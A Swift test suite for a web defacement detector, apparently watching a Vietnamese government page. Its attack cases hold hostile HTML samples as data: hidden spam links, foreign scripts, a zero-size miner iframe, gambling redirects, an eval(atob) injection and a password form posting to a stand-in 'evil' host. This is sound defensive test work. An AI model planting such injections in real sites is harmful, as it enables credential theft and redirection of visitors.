import Foundation
import Testing
import VigilCore
@testable import VigilPages

@Suite("Defacement check")
struct DefacementCheckTests {
    static let url = URL(string: "https://www.sotnmt.example.gov.vn/")!
    static let base = """
        <html><head><title>Sở Tài nguyên và Môi trường</title><script src="/js/app.js?v=20261201"></script>
        <script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script><meta name="csrf" content="a8f7c6d5e4b3a2918273645546372819"></head>
        <body><ul class="menu"><li><a href="/">Trang chủ</a></li><li><a href="/gioi-thieu">Giới thiệu</a></li></ul>
        <p>Thứ Bảy, ngày 05/12/2026</p><div class="news"><a href="/tin/1">Hội nghị tổng kết công tác năm 2026</a><span>04/12/2026</span>
        <a href="/tin/2">Triển khai kế hoạch bảo vệ môi trường</a><span>03/12/2026</span></div>
        <p>Lượt truy cập: 1.234.567</p><footer>Địa chỉ: 01 Đường Trần Phú. Điện thoại: 0225 3842 111</footer></body></html>
        """

    static func check(_ page: String, rules: DefacementRules = .init()) -> DefacementVerdict {
        DefacementCheck.compare(baseline: PageReader.read(Data(base.utf8)), page: PageReader.read(Data(page.utf8)), url: url, rules: rules)
    }

    static func with(_ old: String, _ new: String) -> String {
        precondition(base.contains(old))
        return base.replacingOccurrences(of: old, with: new)
    }

    @Test("what changes on every visit, and the agency's own edits, do not alert")
    func benign() {
        let cases = [
            Self.with("05/12/2026", "06/12/2026"),
            Self.with("1.234.567", "1.240.002"),
            Self.with("a8f7c6d5e4b3a2918273645546372819", "f0e9d8c7b6a5f4e3d2c1b0a998877665"),
            Self.with("app.js?v=20261201", "app.js?v=20261205"),
            Self.with("<div class=\"news\">", "<div class=\"news\"><a href=\"/tin/3\">Cảnh báo lừa đảo qua trang cá cược trực tuyến</a><span>05/12/2026</span>"),
            Self.with("<li><a href=\"/gioi-thieu\">Giới thiệu</a></li>", "<li><a href=\"/gioi-thieu\">Giới thiệu</a></li><li><a href=\"/lien-he\">Liên hệ</a></li>"),
            Self.with("Triển khai", "Triển khải"),
            Self.with("</footer>", "</footer><div class=\"modal\" style=\"display:none\"><a href=\"/thong-bao\">Thông báo lịch nghỉ</a></div>"),
            Self.with("</footer>", "</footer><a href=\"https://dichvucong.gov.vn/\"><img src=\"/banner/dvc.png\" alt=\"Dịch vụ công\"></a>"),
        ]
        for page in cases {
            let verdict = Self.check(page)
            #expect(!verdict.defaced, "\(verdict.reasons)")
        }
    }

    @Test("subtle attacks alert with their reason")
    func attacks() {
        let cases: [(String, String)] = [
            (Self.with("</footer>", "</footer><div style=\"position:absolute;left:-9999px\"><a href=\"https://nhacai-uytin.example/\">nhà cái uy tín</a></div>"), "hidden_links"),
            (Self.with("</body>", "<script src=\"https://jquery-cdn.example.top/jquery.min.js\"></script></body>"), "foreign_script"),
            (Self.with("</body>", "<iframe src=\"https://miner.example/\" width=\"0\" height=\"0\"></iframe></body>"), "hidden_iframe"),
            (Self.with("</head>", "<meta http-equiv=\"refresh\" content=\"0;url=https://kubet.example/\"></head>"), "redirect"),
            (Self.with("</body>", "<script>if(document.referrer.indexOf('google')>0){window.location.href='https://789bet.example/'}</script></body>"), "redirect"),
            (Self.with("<title>Sở Tài nguyên và Môi trường</title>", "<title>Nhà cái uy tín - Cá cược bóng đá</title>"), "title_changed"),
            (Self.with("Triển khai kế hoạch bảo vệ môi trường", "H4ck3d bY Gh0st Cr3w"), "marker"),
            (Self.with("Triển khai kế hoạch bảo vệ môi trường", "Hаckеd bу Ghost"), "marker"),
            (Self.with("</body>", "<script>eval(atob('ZG9jdW1lbnQud3JpdGUo'))</script></body>"), "script_injected"),
            ("<html><head><title>Welcome to nginx!</title></head><body><h1>Welcome to nginx!</h1></body></html>", "default_page"),
            (Self.with("</footer>", "</footer><form action=\"https://evil.example/collect\"><input type=password></form>"), "foreign_form"),
        ]
        for (page, code) in cases {
            let verdict = Self.check(page)
            #expect(verdict.defaced && verdict.reasons.contains { $0.code == code }, "\(code): \(verdict.reasons)")
        }
    }

    @Test("rules: an ignored pattern, a trusted domain and an extra marker")
    func rules() {
        let quote = Self.with("</footer>", "</footer><script src=\"https://widgets.partner.example/w.js\"></script>")
        #expect(Self.check(quote).defaced)
        #expect(!Self.check(quote, rules: .init(trustedDomains: ["partner.example"])).defaced)
        let slogan = Self.with("Hội nghị", "Tự do cho tất cả")
        #expect(!Self.check(slogan).defaced)
        #expect(Self.check(slogan, rules: .init(markers: ["tự do cho tất cả"])).defaced)
    }

    @Test("the JSON shape of the verdict is the CLI's contract")
    func json() throws {
        let verdict = Self.check(Self.with("Hội nghị", "Hacked by X"))
        let object = try JSONSerialization.jsonObject(with: try JSONEncoder().encode(verdict)) as? [String: Any]
        #expect(Set(object?.keys ?? [:].keys) == ["defaced", "score", "reasons"])
        let reasons = object?["reasons"] as? [[String: Any]]
        #expect(Set(reasons?.first?.keys ?? [:].keys) == ["code", "detail"])
    }
}
